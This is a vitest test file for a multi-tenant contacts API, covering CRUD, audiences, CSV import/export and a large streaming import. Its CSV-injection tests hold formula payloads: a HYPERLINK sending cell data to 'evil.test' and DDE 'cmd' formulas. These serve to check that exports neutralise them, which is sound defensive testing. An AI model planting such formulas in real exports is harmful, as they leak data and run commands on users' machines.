import { request } from 'node:http';
import { Readable } from 'node:stream';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell } from '../../src/contacts/csv.js';
import {
  bearer,
  buildApp,
  closeAll,
  createClock,
  createKey,
  jwtFor,
  NOW,
  openApp,
  type Stores,
  suffix,
  testTenants,
} from '../support.js';

describe('contacts', () => {
  const { clock, run, A, B } = testTenants('contacts');

  let stores: Stores;
  let app: FastifyInstance;
  let ownerA: string;
  let memberA: string;
  let ownerB: string;
  let writeKeyA: string;
  let readKeyA: string;
  let otherKeyA: string;

  type Headers = Record<string, string>;
  const key = (k: string) => ({ 'x-api-key': k });
  const create = (payload: unknown, headers: Headers = key(writeKeyA)) =>
    app.inject({ method: 'POST', url: '/contacts', headers, payload: payload as object });
  const get = (url: string, headers: Headers = key(readKeyA)) => app.inject({ method: 'GET', url, headers });
  const patch = (id: string, payload: unknown, headers: Headers = key(writeKeyA)) =>
    app.inject({ method: 'PATCH', url: `/contacts/${id}`, headers, payload: payload as object });
  const del = (id: string, headers: Headers = key(writeKeyA)) =>
    app.inject({ method: 'DELETE', url: `/contacts/${id}`, headers });

  beforeAll(async () => {
    ({ stores, app } = await openApp(clock));
    ownerA = jwtFor(clock, A, 'owner');
    memberA = jwtFor(clock, A, 'member');
    ownerB = jwtFor(clock, B, 'owner');
    writeKeyA = (await createKey(app, ownerA, A, { scopes: ['contacts:write'] })).key;
    readKeyA = (await createKey(app, ownerA, A, { scopes: ['contacts:read'] })).key;
    otherKeyA = (await createKey(app, ownerA, A, { scopes: ['email:read', 'email:send'] })).key;
  });

  afterAll(() => closeAll(app, stores));

  describe('POST /contacts', () => {
    it('201: creates the contact, address lowercased, subscribed by default', async () => {
      const res = await create({
        email: '  Ada.Lovelace@Example.COM ',
        firstName: 'Ada',
        attributes: { plan: 'pro', seats: 3, beta: true, note: null },
        audiences: ['newsletter', 'Product updates'],
      });
      expect(res.statusCode, res.body).toBe(201);
      expect(res.json()).toEqual({
        id: expect.stringMatching(/^ct_[0-9A-HJKMNP-TV-Z]{10}[A-Za-z0-9]{20}$/),
        email: 'ada.lovelace@example.com',
        firstName: 'Ada',
        lastName: null,
        attributes: { plan: 'pro', seats: 3, beta: true, note: null },
        subscribed: true,
        unsubscribedAt: null,
        audiences: ['newsletter', 'Product updates'],
        properties: {},
        topics: {},
        createdAt: NOW,
        updatedAt: NOW,
      });
    });

    it('201: created unsubscribed when asked, with its time', async () => {
      const res = await create({ email: `quiet-${run}@example.com`, subscribed: false }, bearer(memberA));
      expect(res.statusCode, res.body).toBe(201);
      expect(res.json()).toMatchObject({ subscribed: false, unsubscribedAt: NOW });
    });

    it('409: the same address again in the tenant, in any case; another tenant may have it', async () => {
      const first = await create({ email: `twice-${run}@example.com` });
      expect(first.statusCode).toBe(201);
      const again = await create({ email: `TWICE-${run}@Example.com`, firstName: 'x' });
      expect(again.statusCode, again.body).toBe(409);
      expect(again.json()).toMatchObject({
        statusCode: 409,
        error: 'Conflict',
        message: 'A contact with this email already exists',
      });
      const { rows } = await stores.pool.query(
        'SELECT first_name FROM contacts WHERE tenant_id = $1 AND email = $2',
        [A, `twice-${run}@example.com`],
      );
      expect(rows).toEqual([{ first_name: null }]);
      expect((await create({ email: `twice-${run}@example.com` }, bearer(ownerB))).statusCode).toBe(201);
    });

    it('400: names the field (bad address, unknown field, bad audience, repeated audience)', async () => {
      const cases: [unknown, RegExp][] = [
        [{ email: 'not-an-address' }, /body\.email/],
        [{}, /body\.email/],
        [{ email: 'a@example.com', nickname: 'x' }, /nickname/],
        [{ email: 'a@example.com', audiences: [' padded'] }, /body\.audiences/],
        [{ email: 'a@example.com', audiences: ['a', 'a'] }, /audiences must not repeat/],
        [{ email: 'a@example.com', attributes: { nested: { x: 1 } } }, /body\.attributes/],
        [{ email: 'a@example.com', subscribed: 'yes' }, /body\.subscribed/],
      ];
      for (const [payload, message] of cases) {
        const res = await create(payload);
        expect(res.statusCode, JSON.stringify(payload)).toBe(400);
        expect(res.json().message).toMatch(message);
      }
      const { rows } = await stores.pool.query("SELECT 1 FROM contacts WHERE email = 'a@example.com'");
      expect(rows).toHaveLength(0);
    });

    it('401 without a credential; 403 for a key without contacts:write', async () => {
      expect((await create({ email: 'b@example.com' }, {})).statusCode).toBe(401);
      for (const k of [readKeyA, otherKeyA]) {
        const res = await create({ email: 'b@example.com' }, key(k));
        expect(res.statusCode).toBe(403);
        expect(res.json()).toMatchObject({
          message: 'Missing required API key scope',
          missingScope: 'contacts:write',
        });
      }
    });
  });

  describe('GET /contacts and GET /contacts/:id', () => {
    const T = `list-${run}`;
    let owner: string;
    const ids: string[] = [];

    beforeAll(async () => {
      owner = jwtFor(clock, T, 'owner');
      for (let i = 0; i < 5; i++) {
        clock.advance(1000);
        const res = await create(
          { email: `p${i}@example.com`, audiences: i % 2 === 0 ? ['even'] : ['odd'] },
          bearer(owner),
        );
        ids.push(res.json().id);
      }
      clock.set(NOW);
    });

    it('200: newest first, paged like the delivery log', async () => {
      const page1 = await get('/contacts?limit=2', bearer(owner));
      expect(page1.statusCode, page1.body).toBe(200);
      expect(page1.json().data.map((c: { id: string }) => c.id)).toEqual([ids[4], ids[3]]);
      expect(page1.json().meta).toEqual({ page: 1, limit: 2, total: 5, totalPages: 3 });
      const page3 = await get('/contacts?limit=2&page=3', bearer(owner));
      expect(page3.json().data.map((c: { id: string }) => c.id)).toEqual([ids[0]]);
      const past = await get('/contacts?limit=2&page=9', bearer(owner));
      expect(past.json()).toEqual({ data: [], meta: { page: 9, limit: 2, total: 5, totalPages: 3 } });
    });

    it('200: ?audience= narrows to the audience', async () => {
      const res = await get('/contacts?audience=even', bearer(owner));
      expect(res.json().data.map((c: { email: string }) => c.email)).toEqual([
        'p4@example.com',
        'p2@example.com',
        'p0@example.com',
      ]);
      expect(res.json().meta.total).toBe(3);
      expect((await get('/contacts?audience=none', bearer(owner))).json().meta.total).toBe(0);
    });

    it('200 with contacts:read; only the caller’s tenant', async () => {
      const res = await get('/contacts?limit=100');
      expect(res.statusCode).toBe(200);
      const emails = res.json().data.map((c: { email: string }) => c.email);
      expect(emails).toContain('ada.lovelace@example.com');
      expect(emails).not.toContain('p0@example.com');
    });

    it('400 for a bad page, limit or audience', async () => {
      for (const q of ['limit=0', 'limit=101', 'page=0', 'page=x', 'audience=%20x']) {
        const res = await get(`/contacts?${q}`);
        expect(res.statusCode, q).toBe(400);
      }
    });

    it('401 without a credential; 403 for a key without contacts:read (contacts:write does not imply it)', async () => {
      expect((await get('/contacts', {})).statusCode).toBe(401);
      expect((await get('/contacts', key(writeKeyA))).statusCode).toBe(403);
      expect((await get(`/contacts/${ids[0]}`, key(otherKeyA))).statusCode).toBe(403);
    });

    it('GET /contacts/:id — 200 for the tenant, 404 unknown or another tenant’s', async () => {
      const res = await get(`/contacts/${ids[1]}`, bearer(owner));
      expect(res.statusCode).toBe(200);
      expect(res.json()).toMatchObject({ id: ids[1], email: 'p1@example.com', audiences: ['odd'] });
      const other = await get(`/contacts/${ids[1]}`, bearer(ownerA));
      expect(other.statusCode).toBe(404);
      expect(other.json()).toEqual({
        statusCode: 404,
        error: 'Not Found',
        message: 'Contact not found',
        code: 'NOT_FOUND',
      });
      expect((await get('/contacts/ct_unknown', bearer(owner))).statusCode).toBe(404);
    });
  });

  describe('PATCH /contacts/:id', () => {
    let id: string;
    beforeAll(async () => {
      id = (await create({ email: `patch-${run}@example.com`, firstName: 'P', audiences: ['a'] })).json().id;
    });

    it('200: changes the given fields only; audiences and attributes replace', async () => {
      clock.advance(60_000);
      const res = await patch(id, { lastName: 'Q', audiences: ['b', 'c'], attributes: { k: 'v' } });
      clock.set(NOW);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toMatchObject({
        firstName: 'P',
        lastName: 'Q',
        audiences: ['b', 'c'],
        attributes: { k: 'v' },
        createdAt: NOW,
        updatedAt: '2026-06-15T12:01:00.000Z',
      });
      const cleared = await patch(id, { firstName: null }, bearer(memberA));
      expect(cleared.json()).toMatchObject({ firstName: null, lastName: 'Q' });
    });

    it('200: unsubscribing stamps unsubscribedAt once; resubscribing clears it', async () => {
      clock.advance(1000);
      const off = await patch(id, { subscribed: false });
      expect(off.json()).toMatchObject({ subscribed: false, unsubscribedAt: '2026-06-15T12:00:01.000Z' });
      clock.advance(1000);
      expect((await patch(id, { subscribed: false })).json().unsubscribedAt).toBe('2026-06-15T12:00:01.000Z');
      expect((await patch(id, { subscribed: true })).json()).toMatchObject({
        subscribed: true,
        unsubscribedAt: null,
      });
      clock.set(NOW);
    });

    it('409: the new address is another contact’s', async () => {
      const res = await patch(id, { email: 'ADA.LOVELACE@example.com' });
      expect(res.statusCode, res.body).toBe(409);
      expect((await get(`/contacts/${id}`)).json().email).toBe(`patch-${run}@example.com`);
      const moved = await patch(id, { email: `Moved-${run}@example.com` });
      expect(moved.json().email).toBe(`moved-${run}@example.com`);
    });

    it('400 names the field; 404 unknown or another tenant’s; 403 without contacts:write', async () => {
      const bad = await patch(id, { audiences: 'x' });
      expect(bad.statusCode).toBe(400);
      expect(bad.json().message).toMatch(/body\.audiences/);
      expect((await patch(id, { firstName: 'B' }, bearer(ownerB))).statusCode).toBe(404);
      expect((await get(`/contacts/${id}`)).json().firstName).toBeNull();
      expect((await patch('ct_nope', { firstName: 'B' })).statusCode).toBe(404);
      expect((await patch(id, { firstName: 'B' }, key(readKeyA))).statusCode).toBe(403);
    });
  });

  describe('DELETE /contacts/:id', () => {
    it('204, then 404; another tenant’s id is 404 and the contact stays', async () => {
      const id = (await create({ email: `gone-${run}@example.com` })).json().id;
      expect((await del(id, bearer(ownerB))).statusCode).toBe(404);
      expect((await get(`/contacts/${id}`)).statusCode).toBe(200);
      expect((await del(id, key(readKeyA))).statusCode).toBe(403);
      expect((await del(id, {})).statusCode).toBe(401);
      const res = await del(id);
      expect(res.statusCode).toBe(204);
      expect(res.body).toBe('');
      expect((await get(`/contacts/${id}`)).statusCode).toBe(404);
      expect((await del(id)).statusCode).toBe(404);
    });
  });

  describe('GET /audiences', () => {
    it('200: names in use with member, subscribed and reachable counts, by name; tenant only', async () => {
      const T = `aud-${run}`;
      const owner = jwtFor(clock, T);
      await create({ email: 'x1@example.com', audiences: ['news', 'beta'] }, bearer(owner));
      await create({ email: 'x2@example.com', audiences: ['news'], subscribed: false }, bearer(owner));
      await create({ email: 'x3@example.com' }, bearer(owner));
      await create({ email: 'x4@example.com', audiences: ['news'] }, bearer(owner));
      // Suppressed (any case: addresses are compared lowercased): subscribed, yet not reached.
      const suppressed = await app.inject({
        method: 'POST',
        url: '/suppressions',
        headers: bearer(owner),
        payload: { email: 'X4@example.com' },
      });
      expect(suppressed.statusCode, suppressed.body).toBe(201);
      const res = await get('/audiences', bearer(owner));
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toEqual({
        data: [
          { name: 'beta', contacts: 1, subscribed: 1, reachable: 1 },
          { name: 'news', contacts: 3, subscribed: 2, reachable: 1 },
        ],
        meta: { page: 1, limit: 20, total: 2, totalPages: 1 },
      });
      const page2 = await get('/audiences?limit=1&page=2', bearer(owner));
      expect(page2.json().data).toEqual([{ name: 'news', contacts: 3, subscribed: 2, reachable: 1 }]);
      expect((await get('/audiences?page=5', bearer(owner))).json().meta.total).toBe(2);
      expect((await get('/audiences', key(otherKeyA))).statusCode).toBe(403);
    });

    it('?name= narrows to one audience (none when no contact carries it); a bad name is a 400', async () => {
      const T = `aud-name-${run}`;
      const owner = jwtFor(clock, T);
      await create({ email: 'n1@example.com', audiences: ['news', 'beta'] }, bearer(owner));
      await create({ email: 'n2@example.com', audiences: ['news'] }, bearer(owner));
      const one = await get('/audiences?name=news', bearer(owner));
      expect(one.json()).toEqual({
        data: [{ name: 'news', contacts: 2, subscribed: 2, reachable: 2 }],
        meta: { page: 1, limit: 20, total: 1, totalPages: 1 },
      });
      const none = await get('/audiences?name=nobody&page=2', bearer(owner));
      expect(none.json()).toEqual({ data: [], meta: { page: 2, limit: 20, total: 0, totalPages: 0 } });
      // Over a real socket too: the 400 names the field.
      const url = await app.listen({ host: '127.0.0.1', port: 0 });
      const bad = await fetch(`${url}/audiences?name=${encodeURIComponent(' padded')}`, {
        headers: bearer(owner),
      });
      expect(bad.status).toBe(400);
      expect(((await bad.json()) as { message: string }).message).toMatch(/querystring\.name/);
    });
  });
});

describe('CSV import and export', () => {
  const clock = createClock(NOW);
  const run = suffix();

  let stores: Stores;
  let app: FastifyInstance;
  let small: FastifyInstance;

  /** A tenant of its own per test, with its write and read keys. */
  async function tenant(name: string) {
    const id = `csv-${name}-${run}`;
    const owner = jwtFor(clock, id);
    const write = (await createKey(app, owner, id, { scopes: ['contacts:write'] })).key;
    const read = (await createKey(app, owner, id, { scopes: ['contacts:read'] })).key;
    return { id, write, read };
  }

  const importCsv = (k: string, csv: string, query = '', on = app, contentType = 'text/csv') =>
    on.inject({
      method: 'POST',
      url: `/contacts/import${query}`,
      headers: { 'x-api-key': k, 'content-type': contentType },
      payload: csv,
    });
  const exportCsv = (k: string, query = '') =>
    app.inject({ method: 'GET', url: `/contacts/export${query}`, headers: { 'x-api-key': k } });
  const list = async (k: string, query = '') =>
    (
      await app.inject({ method: 'GET', url: `/contacts?limit=100${query}`, headers: { 'x-api-key': k } })
    ).json().data as Record<string, unknown>[];
  const byEmail = async (k: string) => new Map((await list(k)).map((c) => [c.email as string, c]));

  beforeAll(async () => {
    ({ stores, app } = await openApp(clock));
    small = await buildApp(stores, clock, { limits: { importMaxBytes: 1024 } });
  });

  afterAll(() => closeAll(small, app, stores));

  describe('POST /contacts/import', () => {
    it('200: creates contacts from every valid row and reports each refused row with its row number', async () => {
      const t = await tenant('rows');
      const csv = [
        'Email,First_Name,last_name,subscribed,audiences,attributes',
        'Ann@Example.com,Ann,Smith,true,news;beta,"{""plan"":""pro""}"',
        'bob@example.com,Bob,,no,,',
        'not-an-email,X,,,,',
        '',
        'cy@example.com,Cy,,maybe,,',
        'dee@example.com,Dee,,,bad;;news,',
        'eve@example.com,Eve,,,,{not json}',
        'fay@example.com,Fay',
        ',Nobody,,,,',
        'gus@example.com,"Gus ""G"" Lee",,,,"{""n"":1,""ok"":true}"',
      ].join('\r\n');
      const res = await importCsv(t.write, csv);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toEqual({
        rows: 9,
        created: 4,
        updated: 0,
        failed: 5,
        errors: [
          { row: 4, message: 'email must be a valid email address' },
          { row: 6, message: 'subscribed must be true, false, yes, no, 1 or 0' },
          { row: 8, message: 'attributes must be a JSON object' },
          { row: 9, message: 'expected 6 columns, got 2' },
          { row: 10, message: 'email is empty' },
        ],
      });
      const contacts = await byEmail(t.read);
      expect([...contacts.keys()].sort()).toEqual([
        'ann@example.com',
        'bob@example.com',
        'dee@example.com',
        'gus@example.com',
      ]);
      expect(contacts.get('ann@example.com')).toMatchObject({
        firstName: 'Ann',
        lastName: 'Smith',
        subscribed: true,
        audiences: ['news', 'beta'],
        attributes: { plan: 'pro' },
      });
      expect(contacts.get('bob@example.com')).toMatchObject({
        subscribed: false,
        unsubscribedAt: NOW,
        lastName: null,
      });
      expect(contacts.get('dee@example.com')).toMatchObject({ audiences: ['bad', 'news'] });
      expect(contacts.get('gus@example.com')).toMatchObject({
        firstName: 'Gus "G" Lee',
        attributes: { n: 1, ok: true },
      });
    });

    it('upserts on the address: non-empty cells replace, empty cells keep, an unsubscribe is never undone', async () => {
      const t = await tenant('upsert');
      await importCsv(
        t.write,
        'email,first_name,last_name,subscribed,audiences\nA@x.io,A,Old,false,one\nb@x.io,B,Old,,two\n',
      );
      clock.advance(60_000);
      const res = await importCsv(
        t.write,
        'email,first_name,last_name,subscribed,audiences\na@x.io,,New,true,\nb@x.io,Bee,,false,three;four\nc@x.io,C,,,\n',
        '?audience=spring',
      );
      clock.set(NOW);
      expect(res.json()).toMatchObject({ rows: 3, created: 1, updated: 2, failed: 0, errors: [] });
      const contacts = await byEmail(t.read);
      expect(contacts.get('a@x.io')).toMatchObject({
        firstName: 'A',
        lastName: 'New',
        subscribed: false,
        unsubscribedAt: NOW,
        audiences: ['one', 'spring'],
        createdAt: NOW,
        updatedAt: '2026-06-15T12:01:00.000Z',
      });
      expect(contacts.get('b@x.io')).toMatchObject({
        firstName: 'Bee',
        lastName: 'Old',
        subscribed: false,
        unsubscribedAt: '2026-06-15T12:01:00.000Z',
        audiences: ['three', 'four', 'spring'],
      });
      expect(contacts.get('c@x.io')).toMatchObject({ subscribed: true, audiences: ['spring'] });
    });

    it('the same address twice in a file: the later row wins, both are counted', async () => {
      const t = await tenant('dup');
      const res = await importCsv(
        t.write,
        'email,first_name\nd@x.io,First\nD@X.io,Second\n',
        '',
        app,
        'text/csv; charset=utf-8',
      );
      expect(res.json()).toMatchObject({ rows: 2, created: 1, updated: 1, failed: 0 });
      expect((await byEmail(t.read)).get('d@x.io')).toMatchObject({ firstName: 'Second' });
    });

    it('a malformed CSV record is a refused row with its line; the rows before it are written', async () => {
      const t = await tenant('quote');
      const res = await importCsv(t.write, 'email,first_name\ne@x.io,E\n\nf@x.io,"F"oops\n');
      expect(res.statusCode, res.body).toBe(200);
      const body = res.json();
      expect(body.created).toBe(1);
      expect(body.failed).toBe(body.errors.length);
      expect(body.errors[0]).toEqual({
        row: 4,
        message: expect.stringMatching(/^unreadable CSV: Invalid Closing Quote/),
      });
      expect([...(await byEmail(t.read)).keys()]).toEqual(['e@x.io']);
    });

    it('400: no email column, an unknown or a repeated column, an empty body; nothing written', async () => {
      const t = await tenant('header');
      const cases: [string, RegExp][] = [
        ['first_name\nAnn\n', /no email column/],
        ['email,nickname\na@x.io,A\n', /unknown column "nickname"/],
        ['email,first_name,firstName\na@x.io,A,B\n', /appears twice/],
        ['', /empty/],
      ];
      for (const [csv, message] of cases) {
        const res = await importCsv(t.write, csv);
        expect(res.statusCode, csv).toBe(400);
        expect(res.json().message).toMatch(message);
      }
      expect((await importCsv(t.write, 'email\na@x.io\n', '?audience=%20bad')).statusCode).toBe(400);
      expect(await list(t.read)).toEqual([]);
    });

    it('415 for a body that is not CSV; 413 past the byte limit', async () => {
      const t = await tenant('limits');
      const json = await importCsv(t.write, '{"email":"a@x.io"}', '', app, 'application/json');
      expect(json.statusCode, json.body).toBe(415);
      const big = `email\n${Array.from({ length: 200 }, (_, i) => `user${i}@example.com`).join('\n')}\n`;
      const res = await importCsv(t.write, big, '', small);
      expect(res.statusCode, res.body).toBe(413);
      expect(res.json()).toMatchObject({ statusCode: 413, error: 'Payload Too Large' });
    });

    it('401 without a credential; 403 for a key without contacts:write', async () => {
      const t = await tenant('auth');
      const none = await app.inject({
        method: 'POST',
        url: '/contacts/import',
        headers: { 'content-type': 'text/csv' },
        payload: 'email\na@x.io\n',
      });
      expect(none.statusCode).toBe(401);
      const res = await importCsv(t.read, 'email\na@x.io\n');
      expect(res.statusCode).toBe(403);
      expect(res.json().missingScope).toBe('contacts:write');
      expect(await list(t.read)).toEqual([]);
    });
  });

  describe('GET /contacts/export', () => {
    it('streams every contact as CSV, and the file imports back into another tenant unchanged', async () => {
      const t = await tenant('export');
      const csv = [
        'email,first_name,last_name,subscribed,audiences,attributes',
        'ann@x.io,Ann,"Smith, Jr.",true,news;beta,"{""plan"":""pro"",""seats"":2}"',
        'bob@x.io,"Bob ""B""",,false,news,',
        'cy@x.io,,,,,',
      ].join('\n');
      expect((await importCsv(t.write, csv)).json().created).toBe(3);
      const res = await exportCsv(t.read);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe('attachment; filename="contacts.csv"');
      const lines = res.body.trimEnd().split('\n');
      expect(lines[0]).toBe(
        'id,email,first_name,last_name,subscribed,audiences,attributes,created_at,updated_at',
      );
      expect(lines).toHaveLength(4);
      expect(res.body).toContain('"Smith, Jr."');

      const copy = await tenant('copy');
      const back = await importCsv(copy.write, res.body);
      expect(back.json()).toMatchObject({ rows: 3, created: 3, failed: 0 });
      const strip = (c: Record<string, unknown>) => {
        const { id: _id, createdAt: _c, updatedAt: _u, ...rest } = c;
        return rest;
      };
      const original = (await list(t.read))
        .map(strip)
        .sort((a, b) => String(a.email).localeCompare(String(b.email)));
      const copied = (await list(copy.read))
        .map(strip)
        .sort((a, b) => String(a.email).localeCompare(String(b.email)));
      expect(copied).toEqual(original);
      expect(original).toHaveLength(3);
    });

    it('?audience= exports one audience; another tenant’s contacts never appear', async () => {
      const t = await tenant('exaud');
      await importCsv(t.write, 'email,audiences\nin@x.io,vip\nout@x.io,other\n');
      const res = await exportCsv(t.read, '?audience=vip');
      const rows = res.body.trimEnd().split('\n');
      expect(rows).toHaveLength(2);
      expect(rows[1]).toContain('in@x.io');
      const other = await tenant('exother');
      expect((await exportCsv(other.read)).body.trimEnd().split('\n')).toHaveLength(1);
    });

    it('pages through more contacts than one batch, each exactly once', async () => {
      const t = await tenant('many');
      const n = 2500;
      const body = `email\n${Array.from({ length: n }, (_, i) => `m${i}@x.io`).join('\n')}\n`;
      expect((await importCsv(t.write, body)).json().created).toBe(n);
      const res = await exportCsv(t.read);
      const emails = res.body
        .trimEnd()
        .split('\n')
        .slice(1)
        .map((l) => l.split(',')[1]);
      expect(emails).toHaveLength(n);
      expect(new Set(emails).size).toBe(n);
    });

    it('401 without a credential; 403 for a key without contacts:read', async () => {
      const t = await tenant('exauth');
      expect((await app.inject({ method: 'GET', url: '/contacts/export' })).statusCode).toBe(401);
      expect((await exportCsv(t.write)).statusCode).toBe(403);
    });
  });
});

describe('CSV injection', () => {
  /**
   * Issue 24, item 8: CSV injection. Contact fields starting with `=`, `+`, `-`, `@`, TAB or CR were
   * exported verbatim, so a spreadsheet opening the export ran them as formulas. The export now
   * prefixes such a cell with `'` (OWASP), and the import removes that quote: the file still
   * imports back unchanged.
   */
  const clock = createClock(NOW);
  const T = `csv-inj-${suffix()}`;
  let stores: Stores;
  let app: FastifyInstance;
  let write: string;
  let read: string;

  const FORMULAS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''+twice",
  ];

  beforeAll(async () => {
    ({ stores, app } = await openApp(clock));
    const owner = jwtFor(clock, T);
    write = (await createKey(app, owner, T, { scopes: ['contacts:write'] })).key;
    read = (await createKey(app, owner, T, { scopes: ['contacts:read'] })).key;
    for (const [i, value] of FORMULAS.entries()) {
      const res = await app.inject({
        method: 'POST',
        url: '/contacts',
        headers: { 'x-api-key': write },
        payload: {
          email: `f${i}@example.com`,
          firstName: value,
          lastName: `Plain ${i}`,
          attributes: { note: value },
        },
      });
      expect(res.statusCode, res.body).toBe(201);
    }
  });

  afterAll(() => closeAll(app, stores));

  const exportRows = async () => {
    const res = await app.inject({ method: 'GET', url: '/contacts/export', headers: { 'x-api-key': read } });
    expect(res.statusCode).toBe(200);
    return { text: res.body, rows: parse(res.body, { columns: true }) as Record<string, string>[] };
  };

  describe('GET /contacts/export neutralises formula cells (OWASP CSV injection)', () => {
    it('no cell of the export starts with =, +, -, @, TAB or CR', async () => {
      const { rows } = await exportRows();
      expect(rows).toHaveLength(FORMULAS.length);
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      const byEmail = new Map(rows.map((r) => [r.email, r]));
      expect(byEmail.get('f0@example.com')!.first_name).toBe(`'${FORMULAS[0]}`);
      expect(byEmail.get('f2@example.com')!.first_name).toBe("'-2+3");
      expect(byEmail.get('f4@example.com')!.first_name).toBe("''=already quoted");
      expect(byEmail.get('f0@example.com')!.last_name).toBe('Plain 0');
    });

    it('the export imports back unchanged', async () => {
      const { text } = await exportRows();
      const before = await app.inject({
        method: 'GET',
        url: '/contacts?limit=100',
        headers: { 'x-api-key': read },
      });
      // Another tenant imports the file: it gets the same names and attributes.
      const other = `csv-inj-b-${suffix()}`;
      const owner = jwtFor(clock, other);
      const w = (await createKey(app, owner, other, { scopes: ['contacts:write', 'contacts:read'] })).key;
      const imported = await app.inject({
        method: 'POST',
        url: '/contacts/import',
        headers: { 'x-api-key': w, 'content-type': 'text/csv' },
        payload: text,
      });
      expect(imported.statusCode, imported.body).toBe(200);
      expect(imported.json()).toMatchObject({ created: FORMULAS.length, failed: 0 });
      const after = await app.inject({
        method: 'GET',
        url: '/contacts?limit=100',
        headers: { 'x-api-key': w },
      });
      const fields = (body: string) =>
        (JSON.parse(body).data as { email: string; firstName: string; attributes: object }[])
          .map((c) => [c.email, c.firstName, c.attributes])
          .sort();
      expect(fields(after.body)).toEqual(fields(before.body));
    });

    it('the rule itself: one quote added, one removed', () => {
      for (const v of [...FORMULAS, '\tTab', '\rCR', 'plain', "'quoted but harmless", '', '日本']) {
        expect(restoreCell(neutraliseCell(v))).toBe(v);
        expect(neutraliseCell(v)).not.toMatch(/^[=+\-@\t\r]/);
      }
      expect(neutraliseCell('plain')).toBe('plain');
      expect(neutraliseCell("'quoted but harmless")).toBe("'quoted but harmless");
    });
  });
});

// POST /contacts/import of 100 000 rows over a real HTTP connection, the body generated as it is
// sent: the import must stream (memory bounded by one batch, not by the file). Peak RSS growth is
// printed and bounded; the bound is far below what holding the rows would take (see the figure
// printed for `held` below, measured in the same process).
describe('an import of 100 000 rows', () => {
  const ROWS = Number(process.env.SCALE_ROWS ?? 100_000);
  const MB = 1024 * 1024;

  setFlagsFromString('--expose-gc');
  const gc = runInNewContext('gc') as () => void;

  const clock = createClock(NOW);
  const tenantId = `scale-${suffix()}`;
  let stores: Stores;
  let app: FastifyInstance;
  let url: string;
  let key: string;

  const row = (i: number) =>
    `user${i}@example.com,First${i},Last${i},${i % 7 === 0 ? 'false' : 'true'},aud${i % 10};all,"{""n"":${i},""note"":""${'x'.repeat(80)}""}"\n`;
  const HEADER = 'email,first_name,last_name,subscribed,audiences,attributes\n';

  /** The CSV body, produced chunk by chunk as the socket takes it. */
  function* body(): Generator<string> {
    yield HEADER;
    let chunk = '';
    for (let i = 0; i < ROWS; i++) {
      chunk += row(i);
      if (chunk.length > 64 * 1024) {
        yield chunk;
        chunk = '';
      }
    }
    if (chunk) yield chunk;
  }

  beforeAll(async () => {
    ({ stores, app } = await openApp(clock));
    url = await app.listen({ host: '127.0.0.1', port: 0 });
    key = (
      await createKey(app, jwtFor(clock, tenantId), tenantId, { scopes: ['contacts:write', 'contacts:read'] })
    ).key;
  });

  afterAll(() => closeAll(app, stores));

  function postStream(): Promise<{ status: number; json: Record<string, unknown>; bytes: number }> {
    return new Promise((resolve, reject) => {
      let bytes = 0;
      const req = request(
        `${url}/contacts/import`,
        { method: 'POST', headers: { 'x-api-key': key, 'content-type': 'text/csv' } },
        (res) => {
          let text = '';
          res.setEncoding('utf8');
          res.on('data', (d: string) => {
            text += d;
          });
          res.on('end', () => resolve({ status: res.statusCode ?? 0, json: JSON.parse(text), bytes }));
        },
      );
      req.on('error', reject);
      const source = Readable.from(body());
      source.on('data', (d: string) => {
        bytes += Buffer.byteLength(d);
      });
      source.pipe(req);
    });
  }

  describe('POST /contacts/import at 100 000 rows', () => {
    it('imports every row while live memory stays bounded by a batch, not by the file', async () => {
      // Live memory = what survives a full collection (heap + buffers), sampled every 500 ms during
      // the import; RSS alone also counts garbage not yet collected, so it is printed, not asserted.
      const live = () => {
        gc();
        const m = process.memoryUsage();
        return m.heapUsed + m.arrayBuffers;
      };
      const baseline = live();
      const rssBaseline = process.memoryUsage().rss;
      let peak = baseline;
      let rssPeak = rssBaseline;
      const sampler = setInterval(() => {
        peak = Math.max(peak, live());
        rssPeak = Math.max(rssPeak, process.memoryUsage().rss);
      }, 500);
      const started = performance.now();
      const res = await postStream();
      const seconds = (performance.now() - started) / 1000;
      clearInterval(sampler);
      expect(res.status, JSON.stringify(res.json)).toBe(200);
      expect(res.json).toEqual({ rows: ROWS, created: ROWS, updated: 0, failed: 0, errors: [] });

      // What holding the file would cost, measured the same way: the body and its rows, kept.
      const before = live();
      const held = [...body()].join('');
      const parsed = held.split('\n').map((line) => line.split(','));
      const heldGrowth = live() - before;
      expect(parsed.length).toBeGreaterThan(ROWS);

      const growth = peak - baseline;
      console.log(
        `[contacts import] ${ROWS} rows, ${(res.bytes / MB).toFixed(1)} MiB in ${seconds.toFixed(1)} s ` +
          `(${Math.round(ROWS / seconds)} rows/s); peak live memory growth ${(growth / MB).toFixed(1)} MiB ` +
          `(RSS ${((rssPeak - rssBaseline) / MB).toFixed(1)} MiB); holding the file and its rows: ` +
          `${(heldGrowth / MB).toFixed(1)} MiB`,
      );
      // Streaming keeps about one batch (1000 rows) alive, whatever the file's size.
      expect(growth).toBeLessThan(16 * MB);
      expect(growth * 4).toBeLessThan(heldGrowth);

      const { rows } = await stores.pool.query<{ n: string; unsubscribed: string; all: string }>(
        `SELECT count(*) AS n, count(*) FILTER (WHERE NOT subscribed) AS unsubscribed,
              count(*) FILTER (WHERE audiences @> ARRAY['all']) AS all
         FROM contacts WHERE tenant_id = $1`,
        [tenantId],
      );
      expect(rows[0]).toEqual({
        n: String(ROWS),
        unsubscribed: String(Math.ceil(ROWS / 7)),
        all: String(ROWS),
      });
    }, 180_000);
  });
});
